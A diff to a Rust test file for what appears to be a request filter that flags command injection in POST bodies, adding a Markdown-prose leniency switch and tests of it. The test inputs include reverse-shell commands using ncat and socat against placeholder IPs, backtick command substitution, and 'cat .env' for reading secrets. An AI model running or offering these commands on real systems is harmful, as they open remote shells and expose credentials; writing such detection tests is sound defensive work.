@@ -3,10 +3,20 @@
 //! (search queries with quotes, Markdown with code, JSON, GraphQL,
 //! base64) that must pass.
 
-use super::tests::{post, rule_for};
+use super::Switches;
+use super::tests::{post, post_with, rule_for};
 
 fn post_rule(ct: &'static str, body: &str) -> Option<&'static str> {
     post(ct, body.as_bytes()).finding.map(|f| f.rule)
+}
+
+/// [`post_rule`] with `markdown_prose: true`.
+fn post_rule_markdown(ct: &'static str, body: &str) -> Option<&'static str> {
+    let on = Switches {
+        markdown_prose: true,
+        ..Switches::default()
+    };
+    post_with(ct, body.as_bytes(), &on).finding.map(|f| f.rule)
 }
 
 const FORM: &str = "application/x-www-form-urlencoded";
@@ -697,8 +707,11 @@ fn code_quoted_in_markdown_prose_passes() {
         r"Call `Array.prototype.map()` or write a plain loop instead.",
     ] {
         let body = format!(r#"{{"comment": "{text}"}}"#);
-        assert_eq!(post_rule(JSON, &body), None, "{text}");
+        assert_eq!(post_rule_markdown(JSON, &body), None, "{text}");
     }
+    // Off by default: a command quoted in prose is refused like any other.
+    let body = r#"{"comment": "To see what changed, run `git log -p` or `ls -la` in the folder."}"#;
+    assert!(post_rule(JSON, body).is_some());
 }
 
 #[test]
@@ -722,6 +735,21 @@ fn payloads_quoted_in_markdown_prose_are_found() {
         r"see a`id`b and the rest of it",
         r"please run `id; and all the rest of it",
         r"x=`id`&z=/tmp/a",
+    ] {
+        let body = format!(r#"{{"comment": "{text}"}}"#);
+        assert!(post_rule_markdown(JSON, &body).is_some(), "{text}");
+        assert!(post_rule(JSON, &body).is_some(), "{text}");
+    }
+    // What the leniency lets through when switched on (the attack pass's
+    // spellings): refused by default.
+    for text in [
+        r"x y z `id`",
+        r"```
+id
+```",
+        r"a b c `ncat 1.2.3.4 4444 -e sh`",
+        r"please run `socat tcp-connect:10.0.0.1:4444 exec:bash,pty` now thanks",
+        r"please run `cat .env` now thanks",
     ] {
         let body = format!(r#"{{"comment": "{text}"}}"#);
         assert!(post_rule(JSON, &body).is_some(), "{text}");
